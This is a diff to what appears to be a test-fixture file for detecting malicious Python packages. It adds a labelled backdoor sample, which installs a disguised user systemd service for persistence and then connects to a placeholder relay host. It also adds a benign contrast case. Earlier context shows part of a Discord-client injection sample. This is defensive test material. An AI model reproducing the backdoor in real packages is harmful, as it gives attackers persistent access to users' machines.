@@ -339,6 +339,16 @@ MALICIOUS_PYPI = {
             "'discord_desktop_core-*', 'discord_desktop_core', 'index.js')):\n"
             "    open(core, 'w').write(\"require('./grab');module.exports = require('./core.asar');\")\n"),
     },
+    # A Linux backdoor: a user systemd unit started now and at every login, then a call home.
+    "systemd_user_backdoor": {
+        "pkg/svc.py": (
+            "import os, socket, subprocess, sys\n"
+            "d = os.path.expanduser('~/.config/systemd/user')\n"
+            "os.makedirs(d, exist_ok=True)\n"
+            "open(os.path.join(d, 'dbus-helper.service'), 'w').write(f'[Service]\\nExecStart={sys.executable} {__file__}\\n')\n"
+            "subprocess.call(['systemctl', '--user', 'enable', '--now', 'dbus-helper.service'])\n"
+            "s = socket.create_connection(('relay.dbus-helper.example', 443))\n"),
+    },
 }
 
 # ----------------------------------------------------------------------------- benign neighbours
@@ -544,6 +554,15 @@ BENIGN_PYPI = {
             "    ns = {}\n"
             "    exec(open(os.path.join(os.path.dirname(__file__), '_version.py')).read(), ns)\n"
             "    return ns['__version__']\n"),
+    },
+    # A daemon's CLI installing its own user service on request; it talks to nobody from there.
+    "own_user_service": {
+        "pkg/service.py": (
+            "import os, subprocess, sys\n\n"
+            "def install():\n"
+            "    d = os.path.expanduser('~/.config/systemd/user')\n"
+            "    open(os.path.join(d, 'helperd.service'), 'w').write(f'[Service]\\nExecStart={sys.executable} -m helperd\\n')\n"
+            "    subprocess.run(['systemctl', '--user', 'enable', 'helperd.service'], check=True)\n"),
     },
 }
 
